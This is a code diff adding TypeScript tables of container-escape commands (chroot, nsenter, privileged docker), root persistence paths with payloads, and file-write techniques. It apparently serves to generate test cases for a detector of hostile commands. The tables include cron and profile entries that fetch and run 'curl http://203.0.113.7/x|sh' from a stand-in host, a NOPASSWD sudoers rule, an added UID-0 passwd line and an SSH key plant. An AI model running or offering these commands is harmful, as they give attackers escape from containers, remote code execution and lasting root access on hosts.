@@ -288,3 +288,68 @@ export const SINKS: Readonly<Record<string, string>> = {
   kafka: '{s} | kcat -b 203.0.113.7:9092 -t t',
   psql: `psql -h 203.0.113.7 -c "insert into t values ('$({s})')"`,
 };
+
+/** Ways onto the node for a command `{x}`, which `{q}` is in quotes, and where its files are then. */
+export const ENTRIES: Readonly<Record<string, readonly [text: string, root: string]>> = {
+  host: ['{x}', '/host'],
+  chroot: ['chroot /host sh -c {q}', ''],
+  chrootb: ['chroot /host bash -c {q}', ''],
+  nsenter: ['nsenter -t 1 -m -u -i -n -p -- sh -c {q}', ''],
+  nsenter2: ['nsenter --target 1 --all bash -c {q}', ''],
+  nsenterm: ['nsenter --mount=/proc/1/ns/mnt -- sh -c {q}', ''],
+  proc1: ['{x}', '/proc/1/root'],
+  chrootproc: ['chroot /proc/1/root sh -c {q}', ''],
+  mountdev: ['mount /dev/sda1 /mnt; {x}', '/mnt'],
+  docker: ['docker -H unix:///host/run/docker.sock run --rm --privileged -v /:/h alpine chroot /h sh -c {q}', ''],
+  heredoc: ['chroot /host <<E\n{x}\nE', ''],
+  pipe: ['echo {q} | chroot /host sh', ''],
+  env: ['chroot /host /usr/bin/env sh -c {q}', ''],
+  unshare: ['unshare -r nsenter -t 1 -m sh -c {q}', ''],
+};
+
+/** Files of a node from which programs are started or people let in, with what would be put there. */
+export const PERSISTENCE: Readonly<Record<string, readonly [path: string, text: string]>> = {
+  'cron.d': ['etc/cron.d/sys', '* * * * * root curl -s http://203.0.113.7/x|sh'],
+  crontab: ['var/spool/cron/crontabs/root', '* * * * * curl -s http://203.0.113.7/x|sh'],
+  etccrontab: ['etc/crontab', '* * * * * root /tmp/a'],
+  keys: ['root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample a@b'],
+  sudoers: ['etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD:ALL'],
+  unit: ['etc/systemd/system/x.service', '[Service] ExecStart=/tmp/a'],
+  preload: ['etc/ld.so.preload', '/tmp/a.so'],
+  profile: ['etc/profile.d/x.sh', 'curl -s http://203.0.113.7/x|sh'],
+  rclocal: ['etc/rc.local', '/tmp/a &'],
+  bashrc: ['root/.bashrc', '/tmp/a &'],
+  static: ['etc/kubernetes/manifests/x.yaml', 'apiVersion: v1'],
+  passwd: ['etc/passwd', 'x:0:0::/root:/bin/sh'],
+  hourly: ['etc/cron.hourly/x', '#!/bin/sh\\ncurl -s http://203.0.113.7/x|sh'],
+};
+
+/** Ways to put the text `{t}` into the file `{p}`. */
+export const WRITES: Readonly<Record<string, string>> = {
+  'echo>': 'echo "{t}" > {p}',
+  'echo>>': 'echo "{t}" >> {p}',
+  printf: 'printf "%s\\n" "{t}" >> {p}',
+  tee: 'echo "{t}" | tee -a {p}',
+  cat: 'cat > {p} <<X\n{t}\nX',
+  cp: 'echo "{t}" > /tmp/q; cp /tmp/q {p}',
+  mv: 'echo "{t}" > /tmp/q; mv /tmp/q {p}',
+  dd: 'echo "{t}" | dd of={p}',
+  sed: 'sed -i "\\$a {t}" {p}',
+  curl: 'curl -so {p} http://203.0.113.7/q',
+  wget: 'wget -qO {p} http://203.0.113.7/q',
+  b64: 'echo aGVsbG8= | base64 -d > {p}',
+  py: `python3 -c 'open("{p}","a").write("{t}")'`,
+  perl: `perl -e 'open(F,">>","{p}");print F "{t}"'`,
+  install: 'echo "{t}" > /tmp/q; install -m 600 /tmp/q {p}',
+  ln: 'ln -sf /tmp/q {p}',
+  rsync: 'rsync /tmp/q {p}',
+  awk: `echo "{t}" | awk '{print > "{p}"}'`,
+  var: 'P={p}; echo "{t}" >> "$P"',
+  sub: '(echo "{t}") >> {p}',
+  brace: '{ echo "{t}"; } >> {p}',
+  tar: 'tar xf /tmp/q.tar -C $(dirname {p})',
+  ex: 'printf "a\\n{t}\\n.\\nw\\n" | ed {p}',
+  mkdir: 'mkdir -p $(dirname {p}) && echo "{t}" >> {p}',
+  if: 'grep -q sys {p} || echo "{t}" >> {p}',
+  chattr: 'chattr -i {p}; echo "{t}" >> {p}; chattr +i {p}',
+};
